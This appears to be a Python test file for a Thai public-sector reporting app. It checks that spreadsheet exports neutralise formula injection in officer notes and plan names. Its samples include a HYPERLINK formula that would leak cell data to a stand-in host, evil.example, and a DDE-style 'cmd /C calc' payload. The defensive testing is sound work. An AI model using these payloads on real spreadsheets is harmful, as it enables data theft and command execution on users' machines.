"""Spreadsheet formula injection: what officers type and what plan files name stays text in every
export (files.spreadsheet_text): the CLI's CSV and XLSX, the dashboard's workbook and status CSV.

A hostile reason goes in as an officer types it (signed webhooks, the fake LINE out) and the
files are read back: in XLSX each text cell is a string and no sheet holds a formula (<f>); in
CSV a text that would read as a formula starts with an apostrophe."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from files.report_export import DATA_SHEET, REPORT_SHEET
from files.spreadsheet_text import reads_as_formula, safe_csv_text, save_workbook, unescape_csv_text, write_csv
from models.reporting import save_value

from . import factories as F
from .test_dashboard import BASE, sign_in
from .test_plan_import import run

REASON = '=HYPERLINK("http://evil.example/x?"&A1,"คลิก")'
PLANNER = "Uplanner"
LEADING = ["=", "+", "-", "@", "\t", "\r"]
NAME_COLUMNS = ("unit", "project_name", "indicator_name", "unit_of_measure")


@pytest.fixture
def app(make_app):
    return make_app(PUBLIC_BASE_URL=BASE)


def add_planner(db) -> None:
    with db.transaction() as s:
        F.officer(
            s,
            "planner",
            F.unit(s, "กองนโยบายและแผนงาน", "central"),
            role="planner",
            line_user_id=PLANNER,
            name="ธีรพงษ์ วางแผน",
        )


def read_xlsx(data: bytes):
    """The workbook, once no sheet of it holds a formula and every text cell of it is a string."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not [n for n in sheets if re.search(rb"<f[ >/]", archive.read(n))]
    book = load_workbook(io.BytesIO(data))
    typed = {
        (sheet.title, cell.coordinate): cell.data_type
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert typed and set(typed.values()) == {"s"}
    return book


def texts(sheet) -> set[str]:
    return {v for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str)}


def as_read(written: str) -> str:
    """A text as an XLSX gives it back: XML reads a carriage return as a line feed."""
    return written.replace("\r", "\n")


def cli_xlsx(app, tmp_path):
    out = tmp_path / "export.xlsx"
    result = run(app, "export", "--year", 2569, "--format", "xlsx", "--out", out)
    assert result.exit_code == 0, result.output
    return read_xlsx(out.read_bytes())


def dashboard_xlsx(app, chat_with):
    response = sign_in(app, chat_with, PLANNER).get("/dashboard/export.xlsx?year=2569&q=4")
    assert response.status_code == 200
    return read_xlsx(response.data)


def csv_records(app, *args) -> list[dict]:
    result = run(app, *args)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


# -- the helpers -------------------------------------------------------------------------------


@pytest.mark.parametrize("lead", LEADING)
def test_a_text_starting_like_a_formula_gets_an_apostrophe_in_csv(lead):
    text = lead + "SUM(1+1)*cmd|' /C calc'!A0"
    assert reads_as_formula(text)
    assert safe_csv_text(text) == "'" + text
    assert unescape_csv_text(safe_csv_text(text)) == text


@pytest.mark.parametrize(
    "value",
    ["ร้อยละ", "ข้อมูลจากระบบ VDR", "A=1", "", "'quoted", "-5", "+66812345678", "12.5", -5, Decimal("-5"), 80.25, None],
)
def test_numbers_and_other_text_are_left_as_they_are(value):
    assert safe_csv_text(value) is value
    if isinstance(value, str):
        assert not reads_as_formula(value) and unescape_csv_text(value) == value


def test_csv_fields_are_safe_and_a_carriage_return_inside_one_is_quoted():
    out = io.StringIO()
    write_csv(out, ("note", "value", "unit"), [{"note": "ok\r=1+1", "value": "-5", "unit": "@ราย"}, {"value": 3}])
    assert out.getvalue() == 'note,value,unit\n"ok\r=1+1",-5,\'@ราย\n,3,\n'


def test_saved_workbook_keeps_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    hostile = [lead + "1+1" for lead in LEADING] + ["#N/A", REASON]
    book.active.append([*hostile, "ร้อยละ", -5, Decimal("84.5"), None])
    out = io.BytesIO()
    save_workbook(book, out)
    row = next(read_xlsx(out.getvalue()).active.iter_rows())
    assert [c.value for c in row] == [*map(as_read, hostile), "ร้อยละ", -5, 84.5]
    assert [c.data_type for c in row] == ["s"] * (len(hostile) + 1) + ["n", "n"]


# -- an officer's reason, through chat ---------------------------------------------------------


def test_an_officers_hostile_reason_is_text_in_every_export(app, db, chat_with, tmp_path):
    F.seed_reporter(db)
    add_planner(db)
    chat = chat_with("Uofficer1")
    chat.say("รายงาน")
    chat.press("1. ")
    chat.say("3")
    assert "จำเป็นต้องระบุปัญหา/อุปสรรค" in chat.texts()
    chat.say(REASON)
    chat.press("ยืนยัน")
    assert "บันทึกผล P01/1 เดือนตุลาคม 2569 เป็น 3 ราย แล้ว" in chat.texts()

    sheet = cli_xlsx(app, tmp_path).active
    header = [c.value for c in sheet[1]]
    p01 = [c.value for c in sheet[2]]
    assert (p01[2], p01[header.index("หมายเหตุ ต.ค.")]) == ("P01", REASON)

    book = dashboard_xlsx(app, chat_with)
    assert REASON in texts(book[DATA_SHEET])
    assert f"ต.ค.: {REASON}" in texts(book[REPORT_SHEET])

    row = next(r for r in csv_records(app, "export", "--year", 2569) if r["project_code"] == "P01")
    assert row["note_m10"] == "'" + REASON and row["value_m10"] == "3"


# -- names from plan files ---------------------------------------------------------------------


def hostile_plan(db, now, lead: str) -> dict[str, str]:
    """A unit whose every name starts with `lead`, and an October value with a note starting the
    same way, reported by an officer whose name does too (no export shows officers' names today;
    read_xlsx would catch one that did)."""
    names = {
        "unit": lead + "หน่วยทดสอบ",
        "project_name": lead + "โครงการทดสอบ",
        "indicator_name": lead + "จำนวนผู้ประกันตน",
        "unit_of_measure": lead + "ราย",
        "officer": lead + "สมชาย ใจดี",
        "note": lead + "ผู้ป่วยย้ายโรงพยาบาล",
    }
    with db.transaction() as s:
        unit = F.unit(s, names["unit"])
        ind = F.indicator(
            s, unit, "P01", 1, names["indicator_name"], names["unit_of_measure"], "count", F.month_targets(oct=10)
        )
        ind.project.name = names["project_name"]
        officer = F.officer(s, "o1", unit, indicators=[ind], name=names["officer"])
        save_value(
            s,
            indicator_id=ind.id,
            month=10,
            value=Decimal(3),
            note=names["note"],
            officer_id=officer.id,
            now=now,
            on_time=False,
            source="chat",
        )
    return names


@pytest.mark.parametrize("lead", LEADING)
def test_plan_names_and_notes_starting_like_a_formula_are_text(app, db, clock, chat_with, tmp_path, lead):
    names = hostile_plan(db, clock.now(), lead)
    add_planner(db)
    written = {as_read(names[k]) for k in (*NAME_COLUMNS, "note")}

    assert written <= texts(cli_xlsx(app, tmp_path).active)
    book = dashboard_xlsx(app, chat_with)
    assert written <= texts(book[DATA_SHEET])
    assert {as_read(names[k]) for k in ("unit", "project_name", "unit_of_measure")} <= texts(book[REPORT_SHEET])

    quoted = {k: "'" + v for k, v in names.items()}
    (row,) = csv_records(app, "export", "--year", 2569)
    assert {k: row[k] for k in (*NAME_COLUMNS, "note_m10")} == {
        **{k: quoted[k] for k in NAME_COLUMNS},
        "note_m10": quoted["note"],
    }
    assert (row["weight_pct"], row["target_m10"], row["value_m10"]) == ("100", "10", "3")

    records = csv_records(app, "status", "--all", "--format", "csv")
    (indicator,) = [r for r in records if r["record"] == "indicator"]
    assert {k: indicator[k] for k in NAME_COLUMNS} == {k: quoted[k] for k in NAME_COLUMNS}
    assert (indicator["target"], indicator["result"], indicator["percent"]) == ("10", "3", "30")


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_an_exported_plan_imports_back_unchanged(app, db, clock, tmp_path, lead):
    hostile_plan(db, clock.now(), lead)
    out = tmp_path / "export.csv"
    assert run(app, "export", "--year", 2569, "--out", out).exit_code == 0
    assert f",'{lead}โครงการทดสอบ," in out.read_text(encoding="utf-8-sig")
    result = run(app, "import-plan", out)
    assert result.exit_code == 0, result.output
    assert "ตัวชี้วัด: สร้างใหม่ 0, แก้ไข 0, ไม่เปลี่ยนแปลง 1\n" in result.stdout
